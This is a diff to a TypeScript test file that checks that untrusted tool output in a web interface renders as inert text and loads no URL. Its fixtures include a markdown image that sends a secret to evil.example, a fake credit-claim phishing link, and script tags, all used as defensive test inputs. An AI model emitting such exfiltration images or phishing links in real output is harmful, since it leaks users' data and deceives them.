@@ -11,7 +11,7 @@ import type { ToolFact } from '../../server/catalog/tools/tool-facts';
 import { Versions } from '../../server/core/versions/versions';
 import { tools } from '../../server/tools/registry';
 
-/** Output that would make a browser load another address, or run something. */
+/** Output that would make a browser load a URL or run a script if it were not escaped. */
 const HOSTILE = [
   '![x](https://evil.example/a.png?secret=1)',
   '[Claim your credit](https://evil.example/login)',
@@ -26,7 +26,7 @@ const HOSTILE = [
 ];
 const TEXT = HOSTILE.join('\n');
 
-/** The elements and attributes that load an address or run something: untrusted text may make none. */
+/** Elements and attributes that load a URL or run a script; untrusted text may create none. */
 function whatActs(element: ReactElement): string[] {
   const { document } = parseHTML(`<main>${renderToStaticMarkup(element)}</main>`);
   return [...document.querySelectorAll('main *')].flatMap((each) => {
@@ -47,7 +47,7 @@ function whatActs(element: ReactElement): string[] {
         'data',
         'xlink:href',
       ].includes(name);
-      // A picture that is in the output itself asks nobody, and as an image nothing in it runs.
+      // A data URL causes no request, and scripts in an image do not run.
       if (
         isAddress &&
         !/^[/#](?!\/)/.test(value) &&
@@ -59,7 +59,7 @@ function whatActs(element: ReactElement): string[] {
   });
 }
 
-describe('untrusted output is shown as text, loads no address and runs nothing', () => {
+describe('untrusted output is shown as text, loads no URL and runs no script', () => {
   const now = new Date().toISOString();
   const cases: [string, ReactElement][] = [
     [
@@ -94,10 +94,10 @@ describe('untrusted output is shown as text, loads no address and runs nothing',
     expect(document.querySelector('main')?.textContent).toContain('onload=');
   });
 
-  it('the words of a tool that was imported', () => {
+  it('texts of an imported tool', () => {
     const tool = tools[0];
     const skill = tool?.skills[0];
-    if (!tool || !skill) throw new Error('There are tools');
+    if (!tool || !skill) throw new Error('There are no tools');
     const versions = new Versions('http://gateway.test', { routes: {}, tools: {} });
     const facts: ToolFact = {
       rating: { average: null, count: 0 },
@@ -111,14 +111,14 @@ describe('untrusted output is shown as text, loads no address and runs nothing',
       { detail: true, facts, byokRate: 0.05, versions },
     );
     const [shown] = described.skills;
-    if (!shown) throw new Error('It has a skill');
+    if (!shown) throw new Error('The tool has no skill');
     const props = { tool: 'x', skill: shown, baseUrl: 'http://gateway.test', toolDeprecated: false };
     const element = createElement(SkillSection, props);
     expect(whatActs(element)).toEqual([]);
     expect(renderToStaticMarkup(element)).toContain('evil.example');
   });
 
-  it('is seen where it would act', () => {
+  it('is detected when it would load a URL or run a script', () => {
     const image = createElement('img', { src: 'https://evil.example/a.png', alt: '' });
     const link = createElement('a', { href: 'https://evil.example/' }, 'x');
     const script = createElement('script', {}, 'alert(1)');
